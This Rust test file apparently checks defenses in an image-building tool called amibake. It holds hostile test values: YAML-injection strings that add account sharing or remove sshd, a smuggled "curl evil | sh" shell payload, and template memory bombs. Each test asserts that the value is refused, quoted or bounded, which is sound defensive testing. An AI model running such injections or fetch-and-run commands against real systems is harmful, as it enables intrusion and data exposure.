//! Recipe values: a var is a value, never structure or unquoted shell; templates are
//! bounded in size and time; a recipe reads only the environment variables it declares;
//! a secret never lands where it would be stored in the clear; default names are unique
//! per run. See tests/amibake/hostile/mod.rs.

use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::Value;

use crate::support::cli::{self, BIN, ROOT};

/// A small valid recipe; `{IMAGE}` and `{STEPS}` are replaced by each test.
const BASE: &str = "name: web
vars:
  branch: main
  pw: { secret: true }
source: { ami: ami-0123456789abcdef0 }
builder: { iam_instance_profile: amibake-builder }
steps:
{STEPS}
image:
{IMAGE}
";

/// `BASE` with these steps (each a `  - …` line) and image keys (each a `  key: …` line).
fn recipe(steps: &str, image: &str) -> String {
    BASE.replace("{STEPS}", steps.trim_end_matches('\n'))
        .replace("{IMAGE}", image.trim_end_matches('\n'))
}

const PLAIN_STEP: &str = "  - shell: echo hello";
const PLAIN_IMAGE: &str = "  name: \"web-{{ run_id }}\"";

/// A recipe file in a fresh temporary directory (kept alive by the returned guard).
fn recipe_file(text: &str) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = cli::write_file(dir.path(), "web.yaml", text);
    (dir, path)
}

/// `amibake ARGS… FILE` with `--var K=V` for each var.
fn run(command: &str, file: &Path, vars: &[(&str, &str)], extra: &[&str]) -> Output {
    let mut args: Vec<String> = vec![command.into()];
    args.extend(extra.iter().map(|s| s.to_string()));
    for (k, v) in vars {
        args.push("--var".into());
        args.push(format!("{k}={v}"));
    }
    args.push(file.display().to_string());
    cli::amibake(args)
}

/// `amibake plan --json` of `text`: the plan, or the exit code and stderr when it failed.
fn plan_json(text: &str, vars: &[(&str, &str)]) -> Result<Value, (Option<i32>, String)> {
    let (_dir, file) = recipe_file(text);
    let out = run("plan", &file, vars, &["--json", "--region", "eu-west-1"]);
    if !out.status.success() {
        return Err((out.status.code(), cli::stderr(&out)));
    }
    Ok(serde_json::from_str(&cli::stdout(&out)).expect("plan --json is JSON"))
}

/// `amibake validate` of `text`: exit code and stderr.
fn validate(text: &str, vars: &[(&str, &str)]) -> (Option<i32>, String) {
    let (_dir, file) = recipe_file(text);
    let out = run("validate", &file, vars, &[]);
    (out.status.code(), cli::stderr(&out))
}

fn shares(plan: &Value) -> usize {
    [
        "share_accounts",
        "share_organizations",
        "share_organizational_units",
    ]
    .iter()
    .map(|k| plan["image"][k].as_array().map_or(0, Vec::len))
    .sum()
}

/// The script text `plan --json` shows for the first step.
fn first_script(plan: &Value) -> String {
    plan["steps"][0]["command"]["script"]["display"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

// ---- finding 1: a var value is never structure ------------------------------------------

/// The issue's exploit: a value that closes the quoted scalar and adds `share_with`.
const SHARE_INJECTION: &str = r#"x", share_with: {accounts: ["999988887777"]}, description: "y"#;

#[test]
fn a_var_that_closes_its_quotes_cannot_add_share_with_to_the_image() {
    let text = recipe(PLAIN_STEP, "  name: \"web-{{ branch }}-x\"");
    // The value stays inside the image name, where `"` and `{` are not allowed: validate
    // refuses the name (a literal value, never a new key).
    let (code, err) = validate(&text, &[("branch", SHARE_INJECTION)]);
    assert_eq!(code, Some(2), "validate must refuse: {err}");
    assert!(err.contains("invalid image name"), "{err}");
    match plan_json(&text, &[("branch", SHARE_INJECTION)]) {
        Ok(plan) => panic!("plan accepted the injected name, shares: {}", shares(&plan)),
        Err((code, err)) => {
            assert_eq!(code, Some(2), "{err}");
            assert!(!err.contains("share_accounts"), "{err}");
        }
    }
    // In a free-text field the same value is just text: no share, the text kept whole.
    let text = recipe(
        PLAIN_STEP,
        "  name: \"web-{{ run_id }}\"\n  description: \"built from {{ branch }}\"",
    );
    let plan = plan_json(&text, &[("branch", SHARE_INJECTION)]).expect("plan");
    assert_eq!(shares(&plan), 0, "{plan}");
    assert_eq!(
        plan["image"]["description"],
        format!("built from {SHARE_INJECTION}")
    );
}

#[test]
fn a_var_with_a_newline_and_a_new_key_stays_one_value() {
    let value = "a\"\n  share_with: { accounts: [\"999988887777\"] }\n  x: \"b";
    let text = recipe(
        PLAIN_STEP,
        "  name: \"web-{{ run_id }}\"\n  description: \"{{ branch }}\"",
    );
    let plan = plan_json(&text, &[("branch", value)]).expect("plan");
    assert_eq!(shares(&plan), 0, "{plan}");
    assert_eq!(plan["image"]["description"], value);
    // The same in a plain (unquoted) scalar and in a block scalar.
    let text = recipe(
        PLAIN_STEP,
        "  name: \"web-{{ run_id }}\"\n  description: >-\n    {{ branch }}",
    );
    let plan = plan_json(&text, &[("branch", value)]).expect("plan");
    assert_eq!(shares(&plan), 0, "{plan}");
    assert_eq!(plan["image"]["description"], value);
}

#[test]
fn a_var_that_closes_a_flow_sequence_cannot_add_items() {
    let text = recipe("  - packages: { install: [\"{{ branch }}\"] }", PLAIN_IMAGE);
    // Today `htop"], remove: ["openssh-server` would install htop and remove sshd.
    let (code, err) = validate(&text, &[("branch", r#"htop"], remove: ["openssh-server"#)]);
    assert_eq!(
        code,
        Some(2),
        "validate must refuse the package name: {err}"
    );
    assert!(err.contains("invalid package name"), "{err}");
    let text = recipe(
        PLAIN_STEP,
        "  name: \"web-{{ run_id }}\"\n  copy_to: [\"{{ branch }}\"]",
    );
    let (code, err) = validate(&text, &[("branch", r#"us-west-2", "ap-south-1"#)]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("invalid region"), "{err}");
}

#[test]
fn a_template_in_a_key_is_refused_at_the_key() {
    let text = recipe(
        PLAIN_STEP,
        "  name: \"web-{{ run_id }}\"\n  tags: { \"{{ branch }}\": x }",
    );
    let (code, err) = validate(&text, &[]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("a key cannot hold a template"), "{err}");
    assert!(err.contains(":11:11:"), "points at the key: {err}");
}

#[test]
fn a_var_reaching_a_shell_step_without_shell_quote_is_refused() {
    let text = recipe("  - shell: \"git checkout {{ branch }}\"", PLAIN_IMAGE);
    let (code, err) = validate(&text, &[]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains(":8:26:"), "points at the expression: {err}");
    assert!(err.contains("| shell_quote"), "says the fix: {err}");
    // `run` of checks is shell too.
    let text = format!(
        "{}validate:\n  - {{ name: b, run: \"test {{{{ branch }}}} = main\" }}\n",
        recipe(PLAIN_STEP, PLAIN_IMAGE)
    );
    let (code, err) = validate(&text, &[]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("| shell_quote"), "{err}");
}

#[test]
fn a_var_through_shell_quote_reaches_the_shell_as_one_quoted_word() {
    let text = recipe(
        "  - shell: \"git checkout {{ branch | shell_quote }}\"",
        PLAIN_IMAGE,
    );
    let hostile = "x'; curl evil | sh; echo '";
    let plan = plan_json(&text, &[("branch", hostile)]).expect("plan");
    let script = first_script(&plan);
    assert!(
        script.contains(r#"git checkout 'x'\''; curl evil | sh; echo '\'''"#),
        "{script}"
    );
    let shellcheck = shellcheck();
    assert!(
        shellcheck_ok(&shellcheck, &script),
        "shellcheck complains about:\n{script}"
    );
}

fn shellcheck() -> PathBuf {
    let venv = Path::new(ROOT).join("target/venv/bin/shellcheck");
    assert!(
        venv.exists(),
        "shellcheck not found in target/venv: run scripts/venv.sh (scripts/test.sh does)"
    );
    venv
}

fn shellcheck_ok(bin: &Path, script: &str) -> bool {
    use std::io::Write as _;
    use std::process::{Command, Stdio};
    let mut child = Command::new(bin)
        .args(["--shell=bash", "--severity=style", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("shellcheck starts");
    let mut stdin = child.stdin.take().expect("stdin");
    stdin.write_all(script.as_bytes()).expect("write");
    drop(stdin);
    child
        .wait_with_output()
        .expect("shellcheck")
        .status
        .success()
}

#[test]
fn the_shipped_recipes_validate_and_quote_every_var_that_reaches_a_shell() {
    for file in [cli::AL2023, cli::UBUNTU] {
        let out = cli::amibake(["validate", file]);
        assert!(out.status.success(), "{file}: {}", cli::stderr(&out));
    }
}

// ---- finding 8: templates are bounded --------------------------------------------------

/// Runs `amibake validate FILE` with at most 1 GiB of address space: a bomb that is not
/// bounded dies (a signal or an abort) instead of taking the machine down.
fn validate_within_1gib(text: &str) -> (Option<i32>, String) {
    let (_dir, file) = recipe_file(text);
    let out = std::process::Command::new("bash")
        .args([
            "-c",
            "ulimit -v 1048576; exec \"$0\" validate \"$1\"",
            BIN,
            &file.display().to_string(),
        ])
        .current_dir(ROOT)
        .output()
        .expect("bash runs");
    (out.status.code(), cli::stderr(&out))
}

#[test]
fn a_nested_range_bomb_is_a_clear_error_not_an_abort() {
    let text = recipe(
        "  - shell: |\n      {% for a in range(end=100000) %}{% for b in range(end=100000) %}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx{% endfor %}{% endfor %}",
        PLAIN_IMAGE,
    );
    let (code, err) = validate_within_1gib(&text);
    assert_eq!(code, Some(2), "a clear error, exit 2: {err}");
    assert!(err.contains("template error"), "{err}");
    assert!(err.contains("web.yaml:9:"), "points at the template: {err}");
    // Ranges within the cap, nested: 10,000 × 10,000 × 37 bytes would be 3.7 GB.
    let text = text.replace("100000", "10000");
    let (code, err) = validate_within_1gib(&text);
    assert_eq!(code, Some(2), "a clear error, exit 2: {err}");
    assert!(err.contains("too large"), "{err}");
}

#[test]
fn an_output_bomb_is_a_clear_error_not_an_abort() {
    // Each `replace` multiplies the text by 64; seven of them ask for 4 TiB.
    let x64 = "x".repeat(64);
    let r = format!("replace(from='x', to='{x64}')");
    let chain = std::iter::repeat_n(r.as_str(), 7)
        .collect::<Vec<_>>()
        .join(" | ");
    let text = recipe(
        &format!("  - shell: \"echo {{{{ 'x' | {chain} | shell_quote }}}}\""),
        PLAIN_IMAGE,
    );
    let (code, err) = validate_within_1gib(&text);
    assert_eq!(code, Some(2), "a clear error, exit 2: {err}");
    assert!(err.contains("template"), "{err}");
    // A loop that writes little but often is bounded by the size of what it writes.
    let text = recipe(
        "  - shell: |\n      {% for a in range(end=10000) %}{{ branch | shell_quote }}{% endfor %}",
        PLAIN_IMAGE,
    );
    let big = "y".repeat(100_000);
    let (_dir, file) = recipe_file(&text);
    let out = run("validate", &file, &[("branch", &big)], &[]);
    cli::expect_exit(&out, 2);
    assert!(
        cli::stderr(&out).contains("too large"),
        "{}",
        cli::stderr(&out)
    );
}

// ---- finding 9: the environment ------------------------------------------------------

/// Everything a run printed: `plan --json` reports its errors on stdout.
fn printed(out: &Output) -> String {
    format!("{}{}", cli::stdout(out), cli::stderr(out))
}

fn with_env(text: &str, env: &[(&str, &str)]) -> Output {
    let (_dir, file) = recipe_file(text);
    let mut cmd = std::process::Command::new(BIN);
    cmd.current_dir(ROOT)
        .args(["plan", "--json", "--region", "eu-west-1"])
        .arg(&file);
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.output().expect("amibake runs")
}

#[test]
fn an_undeclared_environment_variable_is_refused_and_a_declared_one_works() {
    let image = "  name: \"web-{{ run_id }}\"\n  description: \"from {{ env.AMIBAKE_T_BRANCH }}\"";
    let text = recipe(PLAIN_STEP, image);
    let out = with_env(&text, &[("AMIBAKE_T_BRANCH", "feature-1")]);
    let err = printed(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("`AMIBAKE_T_BRANCH` is not declared"), "{err}");
    assert!(err.contains("env: [AMIBAKE_T_BRANCH]"), "says how: {err}");
    assert!(!err.contains("feature-1"), "{err}");

    let declared = format!("env: [AMIBAKE_T_BRANCH]\n{text}");
    let out = with_env(&declared, &[("AMIBAKE_T_BRANCH", "feature-1")]);
    assert!(out.status.success(), "{}", cli::stderr(&out));
    let plan: Value = serde_json::from_str(&cli::stdout(&out)).expect("json");
    assert_eq!(plan["image"]["description"], "from feature-1");
}

#[test]
fn get_env_is_refused() {
    let image = "  name: \"web-{{ run_id }}\"\n  description: \"{{ get_env(name='HOME') }}\"";
    let out = with_env(&recipe(PLAIN_STEP, image), &[]);
    let err = printed(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("get_env"), "{err}");
    assert!(err.contains("env:"), "says how to read one: {err}");
}

#[test]
fn no_error_prints_an_environment_value() {
    let secret = "tok-4f9a8b7c6d";
    // A filter that fails on the value quoted it, and so did the image name check.
    for image in [
        "  name: \"web-{{ env.AMIBAKE_T_TOKEN | round }}\"",
        "  name: \"web:{{ env.AMIBAKE_T_TOKEN }}\"",
    ] {
        let text = format!("env: [AMIBAKE_T_TOKEN]\n{}", recipe(PLAIN_STEP, image));
        let out = with_env(&text, &[("AMIBAKE_T_TOKEN", secret)]);
        let err = printed(&out);
        assert_eq!(out.status.code(), Some(2), "{err}");
        assert!(!err.contains(secret), "the value is printed: {err}");
    }
}

// ---- finding 7 (part): secrets where they would be stored in the clear -------------------

#[test]
fn a_secret_in_a_step_name_a_tag_or_the_image_name_is_refused() {
    let cases = [
        (
            "  - { name: \"deploy {{ pw }}\", shell: echo hi }",
            PLAIN_IMAGE.to_string(),
            "step name",
        ),
        (
            PLAIN_STEP,
            format!("{PLAIN_IMAGE}\n  tags: {{ Token: \"{{{{ pw }}}}\" }}"),
            "tag",
        ),
        (
            PLAIN_STEP,
            "  name: \"web-{{ pw }}\"".to_string(),
            "image name",
        ),
        (
            PLAIN_STEP,
            format!("{PLAIN_IMAGE}\n  description: \"pw {{{{ pw }}}}\""),
            "image description",
        ),
    ];
    for (steps, image, field) in cases {
        let (code, err) = validate(&recipe(steps, &image), &[("pw", "hunter2hunter2")]);
        assert_eq!(code, Some(2), "{field}: {err}");
        assert!(err.contains("secret var `pw`"), "{field}: {err}");
        assert!(err.contains(field), "{field}: {err}");
        assert!(!err.contains("hunter2hunter2"), "{err}");
    }
}

// ---- finding 14 (part): default names are unique per run -------------------------------

#[test]
fn two_runs_in_the_same_second_get_different_image_names_from_the_shipped_recipes() {
    use amibake::recipe::{self, Builtins, MissingSecrets, VarInputs};
    let now = time::OffsetDateTime::now_utc();
    let builtins = |run_id: String| Builtins {
        timestamp: amibake::run::timestamp(now),
        date: "2026-11-23".into(),
        region: "eu-west-1".into(),
        run_id,
        env: Default::default(),
    };
    for file in [cli::AL2023, cli::UBUNTU] {
        let path = Path::new(ROOT).join(file);
        let name = |run_id: String| {
            recipe::load(
                &path,
                &VarInputs::default(),
                &builtins(run_id),
                MissingSecrets::Placeholder,
            )
            .expect("loads")
            .recipe
            .image
            .name
            .as_str()
            .to_string()
        };
        let first = name(amibake::run::new_run_id(now));
        let second = name(amibake::run::new_run_id(now));
        assert_ne!(first, second, "{file}: both runs would create {first}");
    }
}
